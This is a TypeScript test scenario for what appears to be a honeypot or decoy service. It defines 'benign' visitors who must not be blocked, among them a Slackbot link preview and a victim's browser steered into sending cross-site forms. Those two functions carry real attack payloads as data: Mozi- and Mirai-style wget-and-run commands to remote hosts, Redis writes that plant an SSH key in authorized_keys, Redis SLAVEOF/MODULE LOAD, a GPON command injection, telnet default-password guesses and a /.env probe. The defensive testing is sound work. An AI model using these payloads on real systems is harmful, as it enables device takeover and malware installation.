import { fetchOnce, readAnswer, sendRequest, type WebRequest } from '../clients/http.ts';
import { RedisClient } from '../clients/redis.ts';
import { TelnetClient } from '../clients/telnet.ts';
import { crowd, defineScenario, type Ground, type Service, type Source } from '../scenario.ts';

const firefox = [
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'en-GB,en;q=0.5'],
  ['Accept-Encoding', 'gzip, deflate'],
] as const;

const host = 'nas.example';
const assets = /(?:src|href)="(\/[^"]{1,200})"/g;
const mostAssets = 20;

/** Somebody opens the page, with all that belongs to it, over one connection. */
async function browse(source: Source): Promise<void> {
  const connection = await source.dial('http');
  if (!connection) return;
  const get = async (target: string) => {
    sendRequest(connection, { target, headers: [...firefox, ['Connection', 'keep-alive']] }, host);
    return readAnswer(connection);
  };
  const page = await get('/');
  const linked = [...(page?.body ?? '').matchAll(assets)].map(([, target]) => target!);
  for (const target of [...new Set([...linked, '/favicon.ico'])].slice(0, mostAssets))
    if (connection.over || (await get(target)) === null) break;
  await connection.close();
}

/** A monitor sees whether somebody answers, and hangs up: again and again. */
async function probe(source: Source): Promise<void> {
  for (let round = 0; round < 4; round++)
    for (const service of ['telnet', 'http', 'redis'] as const) await (await source.dial(service))?.close();
}

/** Somebody mistakes one machine for another, types his password twice, and gives up. */
async function mistype(source: Source): Promise<void> {
  const connection = await source.dial('telnet');
  if (!connection) return;
  const client = new TelnetClient(connection);
  if ((await client.login('h.meier', 'Kirschbaum-17')) === false)
    await client.login('h.meier', 'Kirschbaum-71');
  await client.close();
}

/** An application with a wrong address in its settings uses Redis as it always does. */
async function useCache(source: Source): Promise<void> {
  const connection = await source.dial('redis');
  if (!connection) return;
  const client = new RedisClient(connection);
  const commands = [
    ['CLIENT', 'SETNAME', 'shop'],
    ['PING'],
    ['SET', 'session:81f0', '{"user":17,"cart":[3,5],"note":"curl wax"}', 'EX', '3600'],
    ['GET', 'session:81f0'],
    ['INCR', 'hits:/'],
    ['EXPIRE', 'hits:/', '60'],
    ['MGET', 'session:81f0', 'hits:/'],
    ['DEL', 'session:81f0'],
  ];
  for (let round = 0; round < 5; round++)
    for (const command of commands) if ((await client.command(...command)) === null) return client.close();
  await client.close();
}

/** Somebody pasted an attack into a chat, and the chat's server fetches it to show a preview. */
async function preview(source: Source): Promise<void> {
  const target =
    '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws';
  const agent = 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)';
  await fetchOnce(
    source,
    {
      target,
      headers: [
        ['User-Agent', agent],
        ['Accept', '*/*'],
      ],
    },
    host,
  );
}

/** A hostile page makes its reader's browser send forms: to the web decoy, and to ports that speak something else. */
async function steered(source: Source): Promise<void> {
  const forms: [Service, WebRequest][] = [
    [
      'redis',
      form(
        'CONFIG SET dir /root/.ssh\r\nSET x "ssh-rsa AAAA"\r\nCONFIG SET dbfilename authorized_keys\r\nSAVE\r\n',
      ),
    ],
    ['redis', form('SLAVEOF 203.0.113.9 60101\r\nMODULE LOAD /tmp/exp.so\r\n')],
    [
      'telnet',
      form('root\r\nxc3511\r\nenable\r\nsh\r\n/bin/busybox wget http://192.0.2.66/b.sh; sh b.sh\r\n'),
    ],
    ['telnet', form('admin\r\nadmin\r\nadmin\r\n1234\r\nadmin\r\n12345\r\n')],
    ['http', { ...form('dest_host=`wget http://192.0.2.66/g;sh g`'), target: '/GponForm/diag_Form?images/' }],
    ['http', { ...form(''), method: 'GET', target: '/shell?wget+http://192.0.2.66/m;sh+m' }],
    ['http', { ...form(''), method: 'GET', target: '/.env' }],
  ];
  for (const [service, request] of forms) {
    const connection = await source.dial(service);
    if (!connection) continue;
    sendRequest(connection, request, '127.0.0.1');
    await connection.rest(500);
    await connection.close();
  }
}

function form(body: string): WebRequest {
  const headers = [
    ...firefox,
    ['Origin', 'https://hostile.example'],
    ['Content-Type', 'text/plain'],
    ['Sec-Fetch-Mode', 'no-cors'],
    ['Sec-Fetch-Site', 'cross-site'],
  ] as const;
  return { method: 'POST', target: '/', headers, ...(body && { body }) };
}

const visitors: [role: string, visit: (source: Source) => Promise<void>][] = [
  ['somebody with a browser', browse],
  ['a monitor', probe],
  ['somebody who mistypes', mistype],
  ['an application', useCache],
  ['a link preview', preview],
  ['the browser of a victim', steered],
];

/** Those who must not be denied, however noisy they are. */
export const benign = defineScenario({
  name: 'benign',
  summary: 'noisy but harmless visitors, who must not be denied',
  needs: ['telnet', 'http', 'redis'],
  count: visitors.length,
  async run(ground: Ground) {
    const each = visitors.map(async ([role, visit], i) => {
      const many = Math.floor(ground.count / visitors.length) + (i < ground.count % visitors.length ? 1 : 0);
      if (many > 0) await crowd(ground, many, role, visit);
    });
    await Promise.all(each);
  },
});
